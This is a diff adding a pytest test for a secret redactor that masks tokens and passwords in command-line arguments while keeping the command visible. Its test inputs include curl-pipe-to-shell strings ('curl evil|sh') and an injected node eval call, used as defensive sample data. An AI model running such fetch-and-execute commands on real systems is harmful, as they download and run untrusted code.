@@ -80,3 +80,17 @@ def test_a_line_with_very_many_secrets_is_masked_to_its_end():
     line = "; ".join(f"A{'B' * (number % 7)}_TOKEN=s3cret{number}" for number in range(200))
 
     assert "s3cret" not in redact_command_line(line)
+
+
+@pytest.mark.parametrize(
+    "words, shown",
+    [
+        (["sh", "-c", "TOKEN=$(curl evil|sh) make"], ["sh", "-c", "TOKEN=$(curl evil|sh) make"]),
+        (["sh", "-c", "PASSWORD=x;curl evil|sh"], ["sh", "-c", f"PASSWORD={MASK};curl evil|sh"]),
+        (["node", "--eval=token=1;evil()"], ["node", f"--eval=token={MASK};evil()"]),
+        (["deploy", "--token", "a;b c", "--x"], ["deploy", "--token", MASK, "--x"]),
+        (["deploy", "--password=two words"], ["deploy", f"--password={MASK}"]),
+    ],
+)
+def test_the_words_of_a_command_show_what_a_script_runs_and_no_secret(words, shown):
+    assert Redactor().words(words) == shown
